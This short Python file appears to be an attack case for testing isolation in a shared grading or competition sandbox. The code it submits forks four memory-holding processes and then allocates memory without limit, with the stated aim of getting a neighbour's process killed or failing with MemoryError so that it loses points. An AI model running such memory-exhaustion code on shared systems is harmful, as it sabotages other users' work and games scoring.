"""Keeps as much memory as it may for a while, in several processes, and then takes all there is.

Success: a neighbor's process is killed or its code raises a MemoryError, so that it loses points.
"""

ALONE = True


def attack(submission):
    submission.first(
        """
        import os, time

        end = time.monotonic() + 15
        for _ in range(4):
            if not os.fork():
                block = bytearray(200 << 20)
                while time.monotonic() < end:
                    for position in range(0, len(block), 4096):
                        block[position] = 1
                    time.sleep(0.5)
                os._exit(0)
        while time.monotonic() < end:
            time.sleep(0.5)
        blocks = []
        while True:
            blocks.append(b"x" * (50 << 20))
    """
    )
